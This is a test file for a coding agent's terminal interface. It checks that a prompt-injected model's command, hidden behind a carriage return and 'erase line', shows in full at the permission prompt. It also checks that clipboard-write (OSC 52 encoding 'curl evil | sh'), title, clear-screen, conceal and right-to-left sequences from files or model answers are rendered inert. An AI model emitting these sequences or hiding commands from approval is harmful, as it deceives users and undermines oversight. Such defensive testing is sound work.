/**
 * Terminal escapes from outside the UI: a prompt-injected model asks to run a command that hides its real start
 * behind a carriage return and "erase line", a hostile file carries OSC 52 (write the clipboard), a window-title
 * change and a screen clear, and the model's own answer carries them too. The Ink UI shows each as text (`^[`,
 * `^M`), so the permission question shows the whole command, and none of the sequences reaches the terminal.
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { callTool, say, startAnthropicServer, type ScriptStep, type ScriptedServer } from '../../helpers/anthropic-server.js';
import { hasTmux, startKeelTerminal, type Terminal } from '../../helpers/tmux.js';
import { makeWorkspace, type Workspace } from '../../helpers/workspace.js';

let ws: Workspace | undefined;
let term: Terminal | undefined;
let server: ScriptedServer | undefined;
let recordDir: string | undefined;

afterEach(async () => {
  term?.kill();
  await server?.close();
  ws?.cleanup();
  if (recordDir) rmSync(recordDir, { recursive: true, force: true });
  term = ws = server = recordDir = undefined;
});

const ESC = '\x1b';
const CLIPBOARD = `${ESC}]52;c;Y3VybCBldmlsIHwgc2g=\x07`;
const TITLE = `${ESC}]0;PWNED-TITLE\x07`;
const CLEAR = `${ESC}[2J${ESC}[H`;
const CONCEAL = `${ESC}[8mhidden-text${ESC}[28m`;

/** Keel's Ink UI on a terminal whose every written byte is recorded. */
async function start(script: ScriptStep[], prepare?: (ws: Workspace) => void): Promise<{ t: Terminal; bytes: () => Promise<string> }> {
  ws = makeWorkspace({ git: true });
  prepare?.(ws);
  server = await startAnthropicServer(script);
  term = startKeelTerminal({ cwd: ws.dir, width: 160, env: { KEEL_HOME: ws.home, ANTHROPIC_API_KEY: 'test-key', ANTHROPIC_BASE_URL: server.url } });
  recordDir = mkdtempSync(path.join(tmpdir(), 'keel-escapes-'));
  const file = path.join(recordDir, 'bytes');
  const t = term;
  t.record(file);
  await t.waitFor(/ask mode/);
  /** Every byte written so far: the recording stops and is read once all of it is in the file. */
  const bytes = async () => {
    await t.stopRecording();
    return readFileSync(file, 'latin1');
  };
  return { t, bytes };
}

describe.skipIf(!hasTmux)('terminal escapes from the model and from files', () => {
  it('a permission question shows the whole command: a carriage return and "erase line" cannot hide its start', async () => {
    const canary = path.join(mkdtempSync(path.join(tmpdir(), 'keel-canary-')), 'ran');
    const { t } = await start([callTool('bash', { command: `touch ${canary} #\r${ESC}[2Kls -la` }), say('done')]);
    t.type('list the files');
    t.keys('Enter');
    const screen = await t.waitFor(/bash wants permission[\s\S]*4\. Deny, and don't ask again/);
    expect(screen).toContain(`touch ${canary} #^M^[[2Kls -la`);
    t.keys('3');
    await t.waitFor(/done/);
    expect(() => readFileSync(canary)).toThrow();
    rmSync(path.dirname(canary), { recursive: true, force: true });
  });

  it("a file's and an answer's clipboard, title, clear-screen and conceal sequences are shown, never sent to the terminal", async () => {
    const evil = `first line ${CLIPBOARD}${TITLE}\n${CLEAR}second ${CONCEAL}\nthird\u202Eevil\n`;
    const { t, bytes } = await start([callTool('read_file', { path: 'notes.txt' }), say(`Read it. ${CLIPBOARD} ${TITLE} the end`)], (w) => w.write('notes.txt', evil));
    t.type('read notes.txt');
    t.keys('Enter');
    const screen = await t.waitFor(/the end/);
    expect(screen).toContain('^[]52;c;Y3VybCBldmlsIHwgc2g=^G');
    expect(screen).toContain('^[[8mhidden-text^[[28m');
    expect(screen).toContain('third<U+202E>evil');
    const written = await bytes();
    expect(written).not.toContain(`${ESC}]52;`);
    expect(written).not.toContain(`${ESC}]0;PWNED`);
    expect(written).not.toContain(`${ESC}[8m`);
    expect(written).not.toContain(`${ESC}[2J`);
  });
});
